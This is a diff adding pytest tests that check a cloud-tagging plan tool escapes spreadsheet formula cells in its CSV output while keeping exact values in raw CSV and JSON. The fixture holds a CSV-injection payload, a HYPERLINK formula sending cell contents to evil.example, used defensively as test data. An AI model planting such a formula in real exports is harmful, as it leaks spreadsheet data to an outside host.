@@ -24,6 +24,7 @@ from __future__ import annotations
 
 import argparse
 import copy
+import csv
 import io
 import json
 from datetime import date
@@ -519,3 +520,64 @@ def test_command_errors(warehouse: Path, tmp_path: Path, capsys: pytest.CaptureF
             run(["--warehouse", str(warehouse), *bad])
         assert exit_info.value.code == 2
     assert list(tmp_path.iterdir()) == []
+
+
+# --- CSV a spreadsheet opens safely (issue 11, defect 8a) ----------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
+FORMULA_POLICY = TaggingPolicy.model_validate(
+    {"version": "csv-1", "required_tags": [{"key": "Owner", "applies_to": ["ec2:*"]}]}
+)
+
+
+@pytest.fixture(scope="module")
+def formula_warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Stack ``web``: two instances whose Owner is a formula, and ``@i-3`` without Owner, so the
+    plan proposes the formula as its value."""
+    root = tmp_path_factory.mktemp("formula")
+    rows = [
+        res(A1, US, EC2, "i-1", {STACK: "web", "Owner": FORMULA}, "web-1"),
+        res(A1, US, EC2, "i-2", {STACK: "web", "Owner": FORMULA}, "web-2"),
+        res(A1, US, EC2, "@i-3", {STACK: "web"}, "web-3"),
+    ]
+    write_snapshot(root / "lake", rows, snapshot_date=DAY)
+    score_snapshot(root / "lake", DAY, FORMULA_POLICY)
+    path = root / "warehouse.duckdb"
+    publish_warehouse(root / "lake", path)
+    return path
+
+
+FORMULA_ROW = [
+    "2026-04-02", A1, US, EC2, "@i-3", arn(A1, US, EC2, "@i-3"), "Owner", MISSING, "", "", FORMULA,
+    "set_value", "0.9", "cloudformation_stack", "stack web: 2 of 2 resources", "2", "2",
+]  # fmt: skip
+GUARDED_ROW = [*FORMULA_ROW[:4], "'@i-3", *FORMULA_ROW[5:10], "'" + FORMULA, *FORMULA_ROW[11:]]
+
+
+def test_plan_csv_neutralises_formula_cells(
+    formula_warehouse: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert run(["--warehouse", str(formula_warehouse)]) == 0
+    assert list(csv.reader(io.StringIO(capsys.readouterr().out))) == [list(COLUMNS), GUARDED_ROW]
+    assert run(["--warehouse", str(formula_warehouse), "-o", str(tmp_path / "plan.csv")]) == 0
+    with (tmp_path / "plan.csv").open(newline="", encoding="utf-8") as file:
+        assert list(csv.reader(file)) == [list(COLUMNS), GUARDED_ROW]
+
+
+def test_plan_raw_csv_and_json_keep_exact_values(
+    formula_warehouse: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert run(["--warehouse", str(formula_warehouse), "--raw-csv"]) == 0
+    assert list(csv.reader(io.StringIO(capsys.readouterr().out))) == [list(COLUMNS), FORMULA_ROW]
+    # The JSON plan is AWS CLI input: the value to set is the tag's exact value.
+    assert run(["--warehouse", str(formula_warehouse), "-o", str(tmp_path / "plan.json")]) == 0
+    document = json.loads((tmp_path / "plan.json").read_text(encoding="utf-8"))
+    assert document["tag_resources"] == [batch(A1, US, [arn(A1, US, EC2, "@i-3")], Tags={"Owner": FORMULA})]
+
+
+def test_plan_help_documents_the_formula_guard(capsys: pytest.CaptureFixture[str]) -> None:
+    with pytest.raises(SystemExit) as exit_:
+        run(["--help"])
+    assert exit_.value.code == 0
+    text = " ".join(capsys.readouterr().out.split())
+    assert "--raw-csv" in text and "= + - @" in text and "formula" in text
